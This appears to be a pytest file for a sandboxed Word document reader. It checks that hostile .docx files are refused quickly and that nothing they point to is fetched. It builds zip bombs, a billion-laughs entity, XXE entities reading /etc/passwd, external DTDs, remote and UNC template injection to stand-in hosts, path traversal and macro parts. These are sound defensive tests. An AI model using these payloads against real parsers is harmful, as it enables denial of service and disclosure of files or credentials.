"""Files of Word made to hurt: refused within two seconds, with nothing fetched and nothing kept."""

from __future__ import annotations

import io
import socket
import struct
import zipfile
from contextlib import closing
from typing import TYPE_CHECKING

import pytest

from api.errors import Invalid
from api.infra.sandbox.pool import ChildPool, LimitReached, Limits
from api.infra.word.reader import LIMITS
from api.infra.word.reading import MOST_BYTES, WORD_READER
from tests.support.word_written import MAIN, a_word_file, p, packed, part, parts_of, related, types

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

WITHIN = Limits(cpu_seconds=2, wall_seconds=60.0, memory_bytes=LIMITS.memory_bytes)
DTD = "<?xml version='1.0'?><!DOCTYPE w:document [{}]>"
HEAD, TAIL = part("document", "<w:body>@</w:body>").split("@")


@pytest.fixture(scope="module")
def children() -> Iterator[ChildPool]:
    with closing(ChildPool([WORD_READER], spares=1)) as started:
        started.start()
        yield started


def swollen(begin: str, again: bytes, times: int, end: str = TAIL, name: str = MAIN) -> bytes:
    """Return a file with a part that is some text, and other text many times."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for each, content in parts_of(p("One.")).items():
            if each != name:
                archive.writestr(each, content)
        with archive.open(name, "w") as inner:
            inner.write(begin.encode())
            for _ in range(times):
                inner.write(again)
            inner.write(end.encode())
    return file.getvalue()


def with_part(name: str, content: bytes | str, body: str = "") -> bytes:
    return packed({**parts_of(body or p("One.")), name: content})


def declared(dtd: str, words: str) -> bytes:
    whole = part("document", f"<w:body>{p('<w:r><w:t>' + words + '</w:t></w:r>')}</w:body>")
    return with_part(MAIN, DTD.format(dtd) + whole.partition("?>")[2])


def with_a_lie() -> bytes:
    """Return a file whose text is small by its directory, and 200 MB by its data."""
    file = bytearray(swollen(HEAD, b" " * 1_000_000, 200))
    directory = file.rfind(b"PK\x01\x02", 0, file.rfind(MAIN.encode()))
    struct.pack_into("<I", file, directory + 24, 100)
    return bytes(file)


def with_twins() -> bytes:
    file = io.BytesIO(a_word_file(p("One.")))
    with zipfile.ZipFile(file, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(MAIN, part("document", f"<w:body>{p('Another.')}</w:body>"))
    return file.getvalue()


def locked() -> bytes:
    """Return a file whose parts say that a password locks them."""
    file = bytearray(a_word_file(p("One.")))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = file.find(mark)
        while at >= 0:
            file[at + place] |= 1
            at = file.find(mark, at + 4)
    return bytes(file)


def many_parts() -> bytes:
    return packed({**parts_of(p("One.")), **{f"x/{n}": "" for n in range(60_000)}})


LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">'
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
DEEP = "<w:sdt><w:sdtContent>" * 5_000
TABLES = "<w:tbl><w:tr><w:tc>" * 2_000
# On a slow machine its two seconds of computing end before all that it holds was counted.
EITHER = "more words|more than 2 seconds of computing"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "400 MB of spaces": (lambda: swollen(HEAD, b" " * 1_000_000, 400), "50,000,000 bytes"),
    "200 MB that the directory calls small": (with_a_lie, "cannot be read"),
    "400 MB of styles": (
        lambda: swollen("<w:styles>", b" " * 1_000_000, 400, "", "word/styles.xml"),
        "50,000,000 bytes",
    ),
    "a million runs": (
        lambda: swollen(HEAD + "<w:p>", b"<w:r/>" * 10_000, 100, "</w:p>" + TAIL), EITHER,
    ),
    "300,000 paragraphs in two parts": (
        lambda: swollen(HEAD, b"<w:p><w:r/></w:p>" * 3_000, 100), EITHER,
    ),
    "a name of 20 MB": (lambda: swollen(HEAD + "<w:p w:x='", b"a" * 1_000_000, 60, "'/>"),
                        "50,000,000 bytes"),
    "four million letters": (
        lambda: swollen(HEAD + "<w:p><w:r><w:t>", b"a" * 40_000, 100, "</w:t></w:r></w:p>" + TAIL),
        "3,000,000 characters",
    ),
    "60,000 parts": (many_parts, "5,000 parts"),
    "a billion laughs": (lambda: declared(LAUGHS, "&i;"), "DOCTYPE"),
    "an entity that is a file": (
        lambda: declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "A&x;B"), "DOCTYPE",
    ),
    "a document type that lies elsewhere": (
        lambda: with_part(MAIN, '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>'), "DOCTYPE",
    ),
    "an entity that nobody declared": (
        lambda: with_part(MAIN, HEAD + "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>" + TAIL),
        "cannot be read",
    ),
    "5,000 content controls in one another": (
        lambda: with_part(MAIN, HEAD + DEEP), "100 levels",
    ),
    "2,000 tables in one another": (lambda: with_part(MAIN, HEAD + TABLES), "100 levels"),
    "macros": (lambda: with_part("word/vbaProject.bin", b"\xd0\xcf"), "macros"),
    "macros under another name": (
        lambda: with_part("[Content_Types].xml",
                          types().replace("vnd.openxmlformats-officedocument.wordprocessingml"
                                          ".document.main",
                                          "vnd.ms-word.document.macroEnabled.main")),
        "macros",
    ),
    "a control that runs": (lambda: with_part("word/activeX/activeX1.xml", "<x/>"), "macros"),
    "a template on another machine": (
        lambda: packed({
            **parts_of(p("One."), settings=part("settings", "")),
            "word/_rels/settings.xml.rels": related(
                external=(("attachedTemplate", "http://127.0.0.1:9/evil.dotm"),)),
        }),
        "its template",
    ),
    "a template on a share": (
        lambda: packed({
            **parts_of(p("One."), settings=part("settings", "")),
            "word/_rels/settings.xml.rels": related(
                external=(("attachedTemplate", "\\\\evil.example\\x.dotm"),)),
        }),
        "its template",
    ),
    "footnotes that lie elsewhere": (
        lambda: a_word_file(p("One."), (("footnotes", "http://127.0.0.1:9/notes.xml"),)),
        "footnotes",
    ),
    "another document in it": (
        lambda: a_word_file(p("One.") + '<w:altChunk r:id="r9"/>'), "another document",
    ),
    "another document by its name": (
        lambda: a_word_file(p("One."), (("subDocument", "file:///etc/x.docx"),)),
        "another document",
    ),
    "its text twice": (with_twins, "cannot be read"),
    "its text elsewhere": (
        lambda: with_part("_rels/.rels", related(
            external=(("officeDocument", "http://127.0.0.1:9/word/document.xml"),))),
        "lies elsewhere",
    ),
    "a text above the file": (
        lambda: with_part("_rels/.rels", related(("officeDocument", "../../etc/word/passwd"))),
        "cannot be read",
    ),
    "a password": (locked, "cannot be read"),
    "half a file": (lambda: a_word_file(p("One."))[:600], "cannot be read"),
    "no text in it": (lambda: with_part(MAIN, part("document", "")), "cannot be read"),
    "a workbook": (
        lambda: packed({"_rels/.rels": related(("officeDocument", "xl/workbook.xml")),
                        "xl/workbook.xml": "<x/>"}),
        "workbook",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_refused_in_two_seconds_of_computing(children: ChildPool, name: str) -> None:
    make, says = HOSTILE[name]
    file = make()
    assert len(file) < MOST_BYTES

    with pytest.raises(Invalid, match=says) as refused:
        children.run(WORD_READER, {}, {"file": file}, WITHIN)

    assert says == EITHER or not isinstance(refused.value, LimitReached)


@pytest.mark.parametrize("kind", ["image", "hyperlink", "oleObject"])
def test_what_a_text_leads_to_is_not_fetched(children: ChildPool, kind: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)  # noqa: FBT003 # as a socket has it
        address = f"http://127.0.0.1:{server.getsockname()[1]}/x"
        file = a_word_file(p("One."), ((kind, address),))

        answer = children.run(WORD_READER, {}, {"file": file})

        assert b"One." in answer
        with pytest.raises(BlockingIOError):
            server.accept()


def test_a_template_on_ones_own_disk_is_nobodys_matter(children: ChildPool) -> None:
    file = packed({
        **parts_of(p("One."), settings=part("settings", "")),
        "word/_rels/settings.xml.rels": related(
            external=(("attachedTemplate", "file:///C:\\Users\\Specimen\\Normal.dotm"),)),
    })  # fmt: skip

    answer = children.run(WORD_READER, {}, {"file": file})

    assert b"One." in answer
    assert b"Users" not in answer
